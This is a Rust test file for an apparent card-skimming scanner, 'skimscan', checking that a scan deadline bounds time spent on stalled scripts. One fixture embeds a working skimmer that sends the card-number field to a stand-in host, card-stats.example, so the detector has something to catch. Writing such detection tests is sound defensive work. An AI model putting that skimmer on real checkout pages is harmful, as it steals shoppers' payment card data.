//! Issue 7, part C, bounded time: a page whose scripts all stall used to take
//! ceil(scripts / per-host) × timeout (40 stalled scripts at 4 per host and a 30 s timeout:
//! five minutes; a thousand: hours). `--deadline` (config key `deadline`) bounds the whole
//! scan: what is left when it runs out is an `errors[]` entry, and the report is still written.

mod common;
use common::*;
use std::time::{Duration, Instant};

const STALLED: usize = 40;
/// The deadline the tests set: long enough for the page itself to load on a loaded machine
/// running a debug build (2 cores shared with other builds; loads get four fifths of it).
const DEADLINE: u64 = 8;
/// Generous for the same machine, and far below the five minutes the scan took without a
/// deadline.
const MARGIN: Duration = Duration::from_secs(20);

/// A checkout including `STALLED` scripts that answer only after ten minutes, plus whatever
/// `extra` adds to the page.
fn stalling_shop(extra: &str) -> Server {
    let mut tags = String::new();
    for i in 0..STALLED {
        tags.push_str(&format!(
            "<script src=\"/static/widget-{i}.js\"></script>\n"
        ));
    }
    let page = format!(
        r#"<!doctype html><html><head><title>Checkout</title>
<meta http-equiv="Content-Security-Policy" content="default-src 'self'; form-action 'self'">
{tags}</head><body>
<form id="pay" action="/checkout/place-order" method="post">
<input id="cc" name="payment[cc_number]" autocomplete="cc-number"></form>{extra}
</body></html>"#
    );
    let paths: Vec<String> = (0..STALLED)
        .map(|i| format!("/static/widget-{i}.js"))
        .collect();
    let mut routes = vec![("/checkout/", html(&page))];
    for p in &paths {
        routes.push((p.as_str(), Route::Slow(Duration::from_secs(600))));
    }
    serve(routes)
}

fn stalled_errors(report: &serde_json::Value) -> Vec<String> {
    report["errors"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["url"].as_str().unwrap_or("").contains("/static/widget-"))
        .map(|e| format!("{} {}", e["url"], e["message"]))
        .collect()
}

#[test]
fn stalled_scripts_end_at_the_deadline_and_are_listed() {
    let s = stalling_shop("");
    let t = Instant::now();
    let (code, report, stderr) = scan_json(&[
        "--resolve",
        &s.resolve("shop.test"),
        "--timeout",
        "30",
        "--retries",
        "0",
        "--deadline",
        &DEADLINE.to_string(),
        &s.url("shop.test", "/checkout/"),
    ]);
    let took = t.elapsed();
    assert!(
        took < Duration::from_secs(DEADLINE) + MARGIN,
        "took {took:?}: {stderr}"
    );
    assert_eq!(code, 3, "{stderr}\n{report:#}");
    assert_eq!(report["complete"], false);
    assert_eq!(report["pages"][0]["payment_form"], true, "{report:#}");
    let stalled = stalled_errors(&report);
    assert_eq!(stalled.len(), STALLED, "{stalled:#?}");
    assert!(
        stalled.iter().all(|e| e.contains("deadline")),
        "{stalled:#?}"
    );
    // Every stalled script is still in the inventory, not silently dropped.
    let listed = report["scripts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|x| x["url"].as_str().unwrap_or("").contains("/static/widget-"))
        .count();
    assert_eq!(listed, STALLED, "{report:#}");
}

#[test]
fn a_finding_made_before_the_deadline_still_fails_the_scan() {
    let s = stalling_shop(
        "<script>document.getElementById('pay').addEventListener('submit',function(){new Image().src='https://card-stats.example/c?d='+btoa(document.getElementById('cc').value);});</script>",
    );
    // The analysis gets the last fifth of the deadline: 4 s here, room for a debug build on a
    // loaded machine to analyse the page's code (about 1.2 s measured under a load of 20).
    let deadline = 20;
    let t = Instant::now();
    let (code, report, stderr) = scan_json(&[
        "--resolve",
        &s.resolve("shop.test"),
        "--retries",
        "0",
        "--deadline",
        &deadline.to_string(),
        &s.url("shop.test", "/checkout/"),
    ]);
    assert!(
        t.elapsed() < Duration::from_secs(deadline) + MARGIN,
        "{stderr}"
    );
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    assert_eq!(report["complete"], false);
    assert!(
        rules_of(&report).contains(&"payment-data-exfiltration".to_string()),
        "{report:#}"
    );
    assert_eq!(stalled_errors(&report).len(), STALLED);
}

#[test]
fn the_deadline_comes_from_the_config_file_too() {
    let s = stalling_shop("");
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("skimscan.toml");
    std::fs::write(&cfg, format!("deadline = {DEADLINE}\nretries = 0\n")).unwrap();
    let t = Instant::now();
    let (code, report, stderr) = scan_json(&[
        "--config",
        cfg.to_str().unwrap(),
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/checkout/"),
    ]);
    assert!(
        t.elapsed() < Duration::from_secs(DEADLINE) + MARGIN,
        "{stderr}"
    );
    assert_eq!(code, 3, "{stderr}");
    assert_eq!(stalled_errors(&report).len(), STALLED);
}

#[test]
fn a_deadline_out_of_range_is_a_usage_error() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("c.html");
    std::fs::write(&p, "<html><body>hi</body></html>").unwrap();
    for bad in ["0", "-5", "nan", "soon"] {
        let out = skimscan()
            .args(["scan", "--deadline", bad, p.to_str().unwrap()])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{bad}: {stderr}");
        assert!(stderr.contains("deadline"), "{bad}: {stderr}");
        if bad != "soon" {
            assert!(stderr.contains("more than 0"), "{bad}: {stderr}");
        }
    }
}
